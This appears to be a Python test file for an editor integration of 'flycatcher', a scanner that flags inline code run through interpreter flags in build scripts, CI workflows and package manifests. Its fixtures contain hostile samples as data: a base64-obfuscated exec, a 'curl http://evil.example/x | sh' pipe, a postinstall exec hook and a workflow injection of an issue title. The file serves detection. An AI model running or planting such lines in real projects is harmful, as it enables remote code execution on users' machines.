"""What an editor shows: places, levels, words, layers, hovers and the comment that accepts a finding."""

from __future__ import annotations

import datetime as dt
import json
import subprocess
import sys

ENCODED = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=='))"
SCRIPT = f'#!/bin/sh\necho begin\npython3 -c "{ENCODED}"\n'
PAGE = "https://attack.mitre.org/techniques/T1059/"


def span(line: int, low: int, high: int) -> dict:
    return {"start": {"line": line, "character": low}, "end": {"line": line, "character": high}}


def edited(text: str, edit: dict) -> str:
    lines = text.split("\n")
    at = edit["range"]["start"]
    assert edit["range"]["start"] == edit["range"]["end"]
    lines[at["line"]] = lines[at["line"]][: at["character"]] + edit["newText"] + lines[at["line"]][at["character"] :]
    return "\n".join(lines)


def test_a_finding_has_its_place_level_rule_and_layers(start):
    editor = start()
    (found,) = editor.open("build.sh", SCRIPT)
    assert found["range"] == span(2, 12, 12 + len(ENCODED))
    assert (found["severity"], found["code"], found["source"]) == (1, "code-on-the-fly", "flycatcher")
    assert found["codeDescription"] == {"href": PAGE}
    assert found["message"].startswith("python argument -c runs text that is in no script file: import base64;")
    decoded = ENCODED.index("base64.b64decode")
    first, second = found["relatedInformation"]
    assert first["message"] == 'layer 1 (python, base64): import os;os.system("id")'
    assert first["location"]["range"]["start"]["character"] == 12 + decoded
    assert first["location"]["uri"] == editor.uri("build.sh")
    assert second["message"] == "layer 2 (shell, shell): id"


def test_the_levels_are_the_severities(start):
    editor = start()
    text = "#!/bin/sh\npython3 -c 'print(1)'\npython3 -c 'import os; os.system(\"curl http://evil.example/x | sh\")'\n"
    none, high = editor.open("build.sh", text)
    assert (none["severity"], high["severity"]) == (4, 1)


def test_characters_that_utf_16_writes_in_two_units_count_as_two(start):
    editor = start()
    (found,) = editor.open("build.sh", "#!/bin/sh\necho '\U0001f680\u00e9'; python3 -c 'print(\"\U0001f680\")'\n")
    assert found["range"] == span(1, 24, 24 + 11)


def test_another_unit_is_used_where_the_editor_wants_it(start):
    for encoding, low in (("utf-8", 27), ("utf-32", 23)):
        editor = start(understands={"general": {"positionEncodings": [encoding]}})
        assert editor.offers["positionEncoding"] == encoding
        (found,) = editor.open("build.sh", "#!/bin/sh\necho '\U0001f680\u00e9'; python3 -c 'print(\"\U0001f680\")'\n")
        assert found["range"]["start"] == {"line": 1, "character": low}
        assert editor.end() == 0


def test_an_editor_that_understands_less_gets_less(start):
    editor = start(understands={})
    (found,) = editor.open("build.sh", SCRIPT)
    assert "relatedInformation" not in found
    assert "codeDescription" not in found
    (action,) = editor.actions("build.sh", found)
    assert list(action["edit"]["changes"]) == [editor.uri("build.sh")]


def test_the_same_is_found_as_by_a_scan(start, workspace):
    files = {
        "Makefile": "all:\n\tpython3 -c 'import os; os.remove(\"x\")'\n",
        "Dockerfile": "FROM debian\nRUN perl -e 'system(\"id\")'\n",
        ".github/workflows/x.yml": 'on: issues\njobs:\n  a:\n    runs-on: u\n    steps:\n      - run: echo ${{ github.event.issue.title }}\n      - run: node -e \'require("fs").rmSync("x")\'\n',
        "package.json": '{"scripts": {"postinstall": "node -e \\"require(\'child_process\').exec(\'id\')\\""}}\n',
        "notes.md": "`python3 -c 'print(1)'`\n",
        "sub/README": "nothing\n",
    }
    editor = start()
    shown = {}
    for path, text in files.items():
        target = workspace / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text)
        shown[path] = [
            (each["data"]["detection"], each["range"]["start"]["line"] + 1) for each in editor.open(path, text)
        ]
    done = subprocess.run(
        [sys.executable, "-m", "flycatcher", "scan", "--format", "jsonl", "."],
        cwd=workspace,
        capture_output=True,
        text=True,
        check=False,
    )
    scanned = {path: [] for path in files}
    for record in map(json.loads, done.stdout.splitlines()):
        if "finding" in record:
            finding = record["finding"]
            scanned[finding["path"]].append((record["id"], (finding.get("payload") or finding["span"])["line"]))
    assert shown == scanned
    assert len(scanned[".github/workflows/x.yml"]) == 2
    assert all(scanned[path] for path in ("Makefile", "Dockerfile", "package.json"))


def test_a_hover_has_the_reasons_and_what_to_do(start):
    editor = start()
    editor.open("build.sh", SCRIPT)
    told = editor.hover("build.sh", 2, 20)
    assert told["contents"]["kind"] == "plaintext"
    lines = told["contents"]["value"].split("\n")
    assert lines[0] == "python argument -c: high (63 of 100), confidence high"
    assert "   +45 runs text that it first decodes (T1140)" in lines
    assert "fix: put the text into a file that is reviewed (NAME.py), and run that file" in lines
    assert "what to do next: flycatcher guide" in lines
    assert told["range"] == span(2, 12, 12 + len(ENCODED))
    assert editor.hover("build.sh", 1, 2) is None
    assert editor.hover("closed.sh", 0, 0) is None


def test_secrets_are_redacted(start):
    editor = start()
    token = "ghp_" + "a1B2" * 9
    (found,) = editor.open("build.sh", f"python3 -c 'import x; x.login(\"{token}\")'\n")
    told = editor.hover("build.sh", 0, 15)["contents"]["value"]
    assert token not in json.dumps(found) + told
    assert "[redacted" in told


def test_the_comment_that_accepts_a_finding_waits_for_a_reason(start):
    editor = start()
    (found,) = editor.open("build.sh", SCRIPT)
    (action,) = editor.actions("build.sh", found)
    assert action["kind"] == "quickfix"
    (change,) = action["edit"]["documentChanges"]
    assert change["textDocument"] == {"uri": editor.uri("build.sh"), "version": 1}
    until = dt.datetime.now(dt.UTC).date() + dt.timedelta(days=90)
    assert change["edits"][0]["newText"] == f"# flycatcher: ignore[argument] REASON until={until}\n"
    text = edited(SCRIPT, change["edits"][0])
    editor.change("build.sh", 2, {"text": text})
    editor.save("build.sh")
    assert [each["code"] for each in editor.diagnostics("build.sh", 2)] == ["code-on-the-fly", "faulty-suppression"]
    editor.change("build.sh", 3, {"text": text.replace("REASON", "reviewed in the meeting")})
    editor.save("build.sh")
    assert editor.diagnostics("build.sh", 3) == []


def test_the_comment_is_that_of_the_language(start):
    editor = start()
    for path, text, wanted in (
        ("Makefile", "all:\n\tpython3 -c 'print(1)'\n", "\t# flycatcher: ignore[argument] REASON until="),
        (
            "pom.xml",
            '<project>\n <a>\n  <exec executable="python3">\n   <arg value="-c"/>\n   <arg value="print(1)"/>\n  </exec>\n </a>\n</project>\n',
            "<!-- flycatcher: ignore[argument] REASON until=",
        ),
        (
            "main.tf",
            'resource "null_resource" "a" {\n  provisioner "local-exec" {\n    command = "python3 -c \'print(1)\'"\n  }\n}\n',
            "    # flycatcher: ignore[argument] REASON until=",
        ),
    ):
        found = editor.open(path, text)
        assert found, path
        (action,) = editor.actions(path, found[0])
        assert action["edit"]["documentChanges"][0]["edits"][0]["newText"].lstrip(" ").startswith(wanted.lstrip(" ")), (
            path
        )


def test_no_comment_is_offered_where_it_would_do_harm(start):
    editor = start()
    strict = '{"scripts": {"postinstall": "node -e \\"1+1\\""}}\n'
    notebook = json.dumps({"cells": [{"cell_type": "code", "source": ["!python3 -c 'print(1)'\n"]}], "nbformat": 4})
    for path, text in (
        ("package.json", strict),
        ("a.ipynb", notebook),
        ("x.sh", "FOO=1 \\\n  python3 \\\n  -c 'print(1)'\n"),
    ):
        found = editor.open(path, text)
        assert found, path
        actions = editor.actions(path, found[0])
        if path == "x.sh":
            assert all(
                edit["range"]["start"]["line"] == 0
                for each in actions
                for edit in each["edit"]["documentChanges"][0]["edits"]
            )
        else:
            assert actions == [], path


def test_suppressions_of_the_document_count_and_are_looked_after(start):
    editor = start()
    text = "python3 -c 'print(1)' # flycatcher: ignore[argument] prints the version until=2099-01-01\necho # flycatcher: ignore[stdin] nothing is here any more until=2099-01-01\n"
    (unused,) = editor.open("build.sh", text)
    assert (unused["code"], unused["severity"], unused["tags"], unused["range"]["start"]) == (
        "unused-suppression",
        3,
        [1],
        {"line": 1, "character": 5},
    )
    again = start("--no-ignores")
    assert "code-on-the-fly" in [each["code"] for each in again.open("build.sh", text)]


def test_the_configuration_of_the_repository_counts(start, workspace):
    editor = start()
    text = "python3 -c 'print(1)'\n"
    (found,) = editor.open("sub/build.sh", text)
    entry = f'fingerprint = "{found["data"]["detection"]}"\nreason = "prints a number, and no more"\nowner = "me"\nuntil = 2099-01-01\n'
    (workspace / "flycatcher.toml").write_text(f"[[suppress]]\n{entry}")
    editor.save("flycatcher.toml")
    assert editor.diagnostics("sub/build.sh", 1) == []
    (workspace / "flycatcher.toml").write_text("[[suppress]]\nfingerprint = 1\n")
    editor.save("flycatcher.toml")
    assert len(editor.diagnostics("sub/build.sh", 1)) == 1
    said = editor.message()
    assert said["method"] == "window/showMessage"
    assert "flycatcher.toml:2: suppress[0].fingerprint" in said["params"]["message"]


def test_interpreters_of_the_configuration_are_known_and_forgotten_again(start, workspace):
    editor = start()
    assert editor.open("build.sh", "frob --say 'x'\n") == []
    (workspace / "flycatcher.toml").write_text(
        '[interpreters.frob]\nnames = ["frob"]\nlanguage = "lua"\noptions = { code = ["--say"], exit = ["--version"] }\n'
        'examples = [\n  { argv = ["frob", "--say", "x"], texts = ["x"] },\n  { argv = ["frob", "--version"], texts = [] },\n]\n'
    )
    editor.save("flycatcher.toml")
    found = editor.diagnostics("build.sh", 1)
    told = [each for each in editor.told if each.get("method") == "window/showMessage"]
    assert [each["code"] for each in found] == ["code-on-the-fly"], told
    (workspace / "flycatcher.toml").unlink()
    editor.save("flycatcher.toml")
    assert editor.diagnostics("build.sh", 1) == []


def test_what_is_not_read_is_said(start):
    editor = start()
    (said,) = editor.open("tool.xyz", "run = python3 -c 'print(1)'\n")
    assert (said["code"], said["severity"]) == ("not-read", 3)
    assert said["message"] == "not read: not a type of file that is read, but it names python3"
    assert editor.open("picture.svg", "<a>python3 -c 'print(1)'</a>\n") == []
